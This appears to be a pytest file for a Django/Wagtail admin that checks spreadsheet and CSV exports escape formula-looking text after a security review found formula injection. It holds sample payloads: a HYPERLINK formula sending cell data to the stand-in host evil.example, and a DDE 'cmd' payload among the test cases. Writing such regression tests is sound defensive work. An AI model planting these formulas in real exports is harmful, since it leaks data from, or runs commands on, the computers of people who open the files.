"""Security review 2026-11-22, M2: a civil servant's name set to =HYPERLINK(…) became a live
formula in the Form 01/02 workbooks and in the listing CSV export."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from django.urls import reverse

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

from cms.listing_exports import SafeSpreadsheetExportMixin
from cms.spreadsheets import csv_safe, neutralise_formulas
from org.access import HOME_AFFAIRS_GROUP
from ratings.printing.form01 import build_form01
from ratings.printing.xlsx import form01_xlsx
from scoring.services import score_person
from tests.factories import UserFactory
from tests.scoring.helpers import build_world

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture
def evil_person():
    world = build_world()
    person = world.person(EVIL)
    world.line(person, "X", 2, 2)
    world.marks(person, 27)
    return world, person, score_person(person, world.period)


def test_form01_workbooks_keep_the_name_as_text(evil_person):
    from importers.exports.form01 import build_form01 as export_form01

    world, _person, score = evil_person
    printed = form01_xlsx(build_form01(score))
    exported = export_form01(world.department, world.period)
    for data in (printed, exported):
        assert not formulas(data)
        texts = [
            cell.value
            for sheet in load_workbook(io.BytesIO(data)).worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        assert EVIL in texts  # the text itself is kept exactly


def test_listing_csv_export_escapes_the_formula(client, evil_person):
    client.force_login(UserFactory(groups=[HOME_AFFAIRS_GROUP]))
    response = client.get(reverse("wagtailsnippets_org_civilservant:list") + "?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body
    assert '\n"=HYPERLINK' not in body and ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2", "-2"),  # a number written as text stays a number
        ("-2,5", "-2,5"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        (-2, -2),
        (None, None),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_neutralise_formulas_keeps_the_value():
    book = Workbook()
    book.active["A1"] = EVIL
    assert book.active["A1"].data_type == "f"
    neutralise_formulas(book)
    assert book.active["A1"].data_type == "s" and book.active["A1"].value == EVIL


class _Row:
    def __init__(self, **values):
        self.__dict__.update(values)


class _Listing(SafeSpreadsheetExportMixin, SpreadsheetExportMixin):
    """The smallest listing view: the mixin over Wagtail's own export code."""

    list_export = ["name", "count", "balance"]
    request = None  # outside a request and outside the worker's build


def test_the_listing_mixin_escapes_csv_text_and_keeps_numbers():
    rows = [_Row(name=EVIL, count=3, balance=-2), _Row(name="@SUM(A1)", count=0, balance=1)]
    body = b"".join(
        _Listing().write_csv_row(writer, _Listing().to_row_dict(row))
        for writer in [csv.DictWriter(Echo(), fieldnames=_Listing.list_export)]
        for row in rows
    )
    parsed = list(csv.reader(io.StringIO(body.decode())))
    assert parsed == [["'" + EVIL, "3", "-2"], ["'@SUM(A1)", "0", "1"]]


def test_the_listing_mixin_writes_formula_looking_text_as_text_in_xlsx():
    from openpyxl import Workbook as OpenpyxlWorkbook

    book = OpenpyxlWorkbook(write_only=True)
    sheet = book.create_sheet("Sheet1")
    view = _Listing()
    cells = list(
        view.generate_xlsx_row(sheet, view.to_row_dict(_Row(name=EVIL, count=3, balance=-2)))
    )
    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s"), (3, "n"), (-2, "n")]


#: Exporting views defined in files owned by the permission-layer work (api/viewsets.py):
#: they are to take SafeSpreadsheetExportMixin there (docs/security.md, "Spreadsheet exports").
#: Exact: once one is wired, its entry must go.
AWAITING_WIRING: set[str] = set()


def test_every_listing_export_escapes_text():
    """Generated over every admin URL whose view can export (?export=csv|xlsx): each one's
    view class takes the mixin. The list above is exact: a newly wired view must leave it."""
    unsafe = {
        f"{view.__module__}.{view.__qualname__}"
        for _path, view in exporting_views()
        if not issubclass(view, SafeSpreadsheetExportMixin)
    }
    assert unsafe == AWAITING_WIRING


def exporting_views():
    from django.urls import URLResolver, get_resolver, resolve

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                yield prefix + str(pattern.pattern), pattern.callback

    for path, callback in walk(get_resolver().url_patterns):
        view = getattr(callback, "view_class", None)
        if view is None or not issubclass(view, SpreadsheetExportMixin):
            continue
        if not set("<^$") & set(path) and resolve("/" + path).func.view_class is not view:
            continue  # shadowed by a replacement mounted earlier at the same path
        if getattr(callback, "view_initkwargs", {}).get("list_export", view.list_export):
            yield path, view


def test_the_site_history_export_escapes_labels(client, evil_person):
    from wagtail.log_actions import log

    _world, person, _score = evil_person
    log(person, "wagtail.edit")
    client.force_login(UserFactory(groups=[HOME_AFFAIRS_GROUP]))
    response = client.get("/admin/reports/site-history/?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body


def test_wagtail_page_reports_export_titles_as_text_and_stay_for_admins(client):
    """Wagtail's aging-pages report, served by its replacement (cms.report_urls): a page title
    typed as a formula is escaped; the report still needs a signed-in admin."""
    from wagtail.models import Page

    home = Page.objects.get(depth=2)
    home.add_child(instance=Page(title=EVIL, slug="cong-thuc")).save_revision().publish()
    url = "/admin/reports/aging-pages/?export=csv"
    assert client.get(url).status_code == 302  # to the sign-in page
    client.force_login(UserFactory(username="quantri.baocao", is_superuser=True))
    response = client.get(url)
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body
